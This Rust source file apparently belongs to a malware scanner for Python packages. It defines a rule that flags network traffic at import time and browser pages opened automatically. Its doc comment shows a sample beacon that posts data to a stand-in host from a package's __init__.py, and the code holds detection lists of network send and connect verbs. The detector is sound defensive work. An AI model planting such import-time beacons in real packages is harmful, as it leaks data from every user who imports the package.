use crate::finding::{Finding, Severity};
use crate::flows::hosts;
use crate::python::{Call, ExecContext, QualName};
use crate::rules::helpers::endpoints;
use crate::rules::helpers::network::is_constructor;
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, program_name};

declare_rule! {
    /// Network traffic when the package is imported.
    ///
    /// ## What it finds
    /// Network calls (HTTP clients, `urllib`, sockets, SMTP, FTP, DNS
    /// look-ups of a named host) written at a module's top level, which runs
    /// on `import`. Functions the top level reaches are left to the chain
    /// rules: a function handed over as a callback (a web app's start-up
    /// hook) looks called on import without being so. Install- and start-up
    /// time traffic is AY101's and AY102's; what the data is (host details,
    /// secrets) is AY301's and AY201's; this rule is about the call
    /// happening at all.
    ///
    /// ## Why it matters
    /// Importing a library should not talk to anyone. Beacons, stage-two
    /// downloads and "phone home" probes sit at the top of `__init__.py`
    /// because everything that imports the package runs them, in every
    /// process, with no function to call. Libraries that need the network
    /// connect when asked to.
    ///
    /// Severity: high when the call sends something (a POST or PUT, a
    /// request body, a socket send, mail); medium for a plain fetch or
    /// connection. Calls to the loopback address are left out, and so are
    /// Python 2-only modules (`urllib2`, `httplib`), whose import fails on
    /// any Python that runs today.
    ///
    /// ## Example
    /// ```python
    /// # pkg/__init__.py
    /// import requests
    /// requests.post("https://beacon.example/hit", data={"v": "1.0"})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1071 (Application Layer Protocol), T1195.001
    /// (Compromise Software Dependencies and Development Tools).
    pub struct ImportNetwork {
        id: "AY303",
        slug: "import-time-network",
        category: Exfiltration,
        severity: High,
    }
}

impl Rule for ImportNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            for call in file
                .calls
                .iter()
                .filter(|c| c.context == ExecContext::Import && c.function.is_none())
                .filter(|c| c.is_network() && connects(&c.name))
                .filter(|c| !is_python2_only(&c.name))
                .filter(|c| !is_constructor(&c.name) && !is_local_only(c))
            {
                let target = call
                    .arg_texts()
                    .find(|t| t.contains("://"))
                    .map(|t| format!(" ({t})"))
                    .unwrap_or_default();
                let (severity, what) = if sends(call) {
                    (Severity::High, "sends data over the network")
                } else {
                    (Severity::Medium, "opens a network connection")
                };
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!("`{}` {what} on import{target}", call.name),
                );
                f.severity = severity;
                out.push(f);
            }
            for call in file.calls.iter().filter(|c| c.context.is_automatic()) {
                let Some(url) = opened_in_browser(call) else {
                    continue;
                };
                let foreign = hosts::foreign_url(url, &file.source, facts.metadata);
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` opens {url}{} in the user's browser {}",
                        call.name,
                        foreign.map(|why| format!(" ({why})")).unwrap_or_default(),
                        call.context.describe()
                    ),
                );
                // A page pushed at whoever installs or imports the package:
                // on a site the package has nothing to do with, it is the
                // lure of a phishing or scam campaign.
                f.severity = if foreign.is_some() {
                    Severity::High
                } else {
                    Severity::Medium
                };
                out.push(f);
            }
        }
    }
}

/// The URL a call opens in the user's web browser: `webbrowser.open(url)`,
/// or a command that hands a URL to the desktop (`start URL`, `xdg-open
/// URL`, `open URL`, `explorer URL`).
fn opened_in_browser(call: &Call) -> Option<&str> {
    let url = || call.arg_texts().find(|t| t.contains("://"));
    if call.name.is_in("webbrowser") || call.name.is_from_call_of("webbrowser.get") {
        return matches!(
            call.name.last_name(),
            Some("open" | "open_new" | "open_new_tab")
        )
        .then(url)
        .flatten();
    }
    if !call.is_process() {
        return None;
    }
    let command = call.args.first()?.printed()?;
    let mut words = command.split_whitespace().map(program_name);
    let mut program = words.next()?;
    if program.eq_ignore_ascii_case("cmd") {
        program = words.find(|w| w.eq_ignore_ascii_case("start"))?;
    }
    let opener = [
        "start",
        "xdg-open",
        "open",
        "explorer",
        "sensible-browser",
        "x-www-browser",
    ]
    .iter()
    .any(|o| program.eq_ignore_ascii_case(o));
    let url = command
        .split_whitespace()
        .map(|w| w.trim_matches(['"', '\'']))
        .find(|w| w.starts_with("http://") || w.starts_with("https://"))?;
    opener.then_some(url)
}

/// The call carries data out: an HTTP method with a body, a body argument,
/// a socket send, mail or an upload.
fn sends(call: &Call) -> bool {
    let name = call.name.as_str();
    let method = call.name.last_name().unwrap_or_default();
    let body = ["data", "json", "files", "body", "content"]
        .iter()
        .any(|k| call.keyword(k).is_some());
    let urllib_body = matches!(
        name,
        "urllib.request.urlopen" | "urllib.request.Request" | "urllib2.urlopen" | "urllib2.Request"
    ) && call.args.len() >= 2;
    let http_method = call
        .keyword("method")
        .and_then(|m| m.printed())
        .is_some_and(|m| matches!(m.to_ascii_uppercase().as_str(), "POST" | "PUT" | "PATCH"));
    body || urllib_body
        || http_method
        || matches!(
            method,
            "post"
                | "put"
                | "patch"
                | "send"
                | "sendall"
                | "sendto"
                | "sendmail"
                | "send_message"
                | "storbinary"
                | "storlines"
                | "execute"
        )
}

/// The call itself talks to a peer (not `urllib3.disable_warnings`, not a
/// response's `raise_for_status`).
fn connects(name: &QualName) -> bool {
    const VERBS: &[&str] = &[
        "get",
        "post",
        "put",
        "patch",
        "delete",
        "head",
        "options",
        "request",
        "urlopen",
        "urlretrieve",
        "connect",
        "connect_ex",
        "create_connection",
        "send",
        "sendall",
        "sendto",
        "recv",
        "recvfrom",
        "gethostbyname",
        "getaddrinfo",
        "sendmail",
        "send_message",
        "login",
        "storbinary",
        "storlines",
        "retrbinary",
        "open",
        "resolve",
        "query",
        "stream",
        "fetch",
        "execute",
    ];
    name.last_name().is_some_and(|last| VERBS.contains(&last))
}

fn is_python2_only(name: &QualName) -> bool {
    let name = name.as_str();
    [
        "urllib2.",
        "httplib.",
        "urllib.urlopen",
        "urllib.urlretrieve",
    ]
    .iter()
    .any(|p| name.starts_with(p))
}

/// Traffic that stays on this machine (or a socket pointed at a public
/// resolver to learn the local address), or a look-up of a name that is not
/// a constant (`gethostbyname(gethostname())` finds the local address).
fn is_local_only(call: &Call) -> bool {
    let texts: Vec<&str> = call.arg_texts().collect();
    if matches!(
        call.name.as_str(),
        "socket.gethostbyname" | "socket.getaddrinfo"
    ) {
        return texts.first().is_none_or(|h| is_loopback(h));
    }
    texts.iter().any(|t| is_loopback(t))
}

fn is_loopback(text: &str) -> bool {
    let host = text
        .split_once("://")
        .map_or(text, |(_, rest)| rest)
        .split(['/', ':', '?', ' '])
        .next()
        .unwrap_or("");
    matches!(
        host,
        "localhost" | "127.0.0.1" | "0.0.0.0" | "[::1]" | "::1"
    ) || endpoints::is_public_resolver(host)
}
